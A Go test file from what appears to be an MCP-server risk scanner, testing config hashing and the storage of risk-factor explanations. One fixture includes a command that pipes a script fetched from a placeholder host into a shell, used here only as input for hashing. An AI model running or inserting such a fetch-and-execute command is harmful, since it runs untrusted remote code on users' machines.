package impl

import (
	"crypto/sha256"
	"encoding/json"
	"os"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/mcpwarden/mcpwarden/db"
	"github.com/mcpwarden/mcpwarden/gen"
	"github.com/mcpwarden/mcpwarden/impl/risk"
)

// Stored configuration hashes are compared with new ones (verification holds for a hash), so the
// hand-written encoding must hash exactly what encoding/json's did.
func TestConfigHashIsTheHashItAlwaysWas(t *testing.T) {
	str := func(s string) *string { return &s }
	servers := []db.ReportServer{
		{ServerType: "@modelcontextprotocol/server-filesystem", Command: "npx -y @modelcontextprotocol/server-filesystem /home/dev", Scope: "/home/dev", EnvVars: []string{}, Transport: str("stdio")},
		{ServerType: "x<y>&z", Command: "bash -c \"curl https://e.example/x | sh\"\t\n", Scope: `C:\Users\dev`, EnvVars: []string{"Z_TOKEN", "A_KEY", "M"}},
		{ServerType: "caf\u00e9 \u2028\u2029 \x01 \xff", URL: str("https://x.example/mcp?a=1&b=2"), Transport: str("sse"), EnvVars: nil},
	}
	for i, s := range servers {
		env := slices.Clone(s.EnvVars)
		slices.Sort(env)
		b, err := json.Marshal([]any{s.ServerType, s.Command, s.Scope, env, s.Transport, s.URL})
		if err != nil {
			t.Fatal(err)
		}
		want := sha256.Sum256(b)
		if got := configHash(s); string(got) != string(want[:]) {
			t.Errorf("server %d: configHash %x, want %x (over %s)", i, got, want, b)
		}
		if !slices.Equal(servers[i].EnvVars, s.EnvVars) {
			t.Errorf("server %d: configHash reordered the server's environment", i)
		}
	}
}

// Explanations are stored without what their rules say anyway; read back, they must be the
// factors the assessment found, clipped, for every input of the risk engine's golden file
// (alone and with the other servers of their group, for the combination rules' details).
func TestStoredFactorsReadBackAsTheAssessedOnes(t *testing.T) {
	raw, err := os.ReadFile("risk/testdata/assess_golden.json")
	if err != nil {
		t.Fatal(err)
	}
	var golden struct {
		Groups []struct {
			Cases []struct {
				Input risk.Input `json:"input"`
			} `json:"cases"`
		} `json:"groups"`
	}
	if err := json.Unmarshal(raw, &golden); err != nil {
		t.Fatal(err)
	}
	long := strings.Repeat("é<>&\"", 1000)
	var sets [][]risk.Factor
	for _, g := range golden.Groups {
		inputs := make([]risk.Input, len(g.Cases))
		for i, c := range g.Cases {
			inputs[i] = c.Input
			sets = append(sets, risk.AssessAll([]risk.Input{c.Input})[0].Factors)
		}
		for _, a := range risk.AssessAll(inputs) {
			sets = append(sets, a.Factors)
		}
	}
	sets = append(sets, []risk.Factor{
		{ID: "MCPW-GONE", Severity: risk.Low, Title: "A rule a later version dropped", Detail: "d", Evidence: "e"},
		{ID: risk.FactorMalicious, Severity: risk.Critical, Title: long, Detail: long, Evidence: long},
	}, nil)
	compacted := 0
	for i, fs := range sets {
		stored := StoredFactors(fs)
		got, err := expandFactors(stored)
		if err != nil {
			t.Fatalf("set %d: %v (%s)", i, err, stored)
		}
		want := make([]gen.RiskFactor, min(len(fs), maxFactors))
		full := 2
		for j, f := range fs[:len(want)] {
			want[j] = gen.RiskFactor{Id: f.ID, Severity: gen.RiskLevel(f.Severity), Title: clipText(f.Title, 500),
				Detail: clipText(f.Detail, 4000), Evidence: clipText(f.Evidence, 4000)}
			full += len(f.Title) + len(f.Detail)
		}
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("set %d read back differs:\n got %+v\nwant %+v\nstored %s", i, got, want, stored)
		}
		if len(fs) > 0 && len(stored) < full/2 {
			compacted++
		}
	}
	if compacted < len(sets)/2 {
		t.Errorf("only %d of %d explanations stored in less than half their titles' and details' bytes", compacted, len(sets))
	}
	// Explanations stored whole, before StoredFactors left anything out, read as they are.
	old := `[{"id":"MCPW-FS-ROOT","severity":"critical","title":"T","detail":"D","evidence":"/"}]`
	got, err := expandFactors([]byte(old))
	if err != nil || len(got) != 1 || got[0].Title != "T" || got[0].Detail != "D" {
		t.Errorf("a whole stored factor read back as %+v, %v", got, err)
	}
}
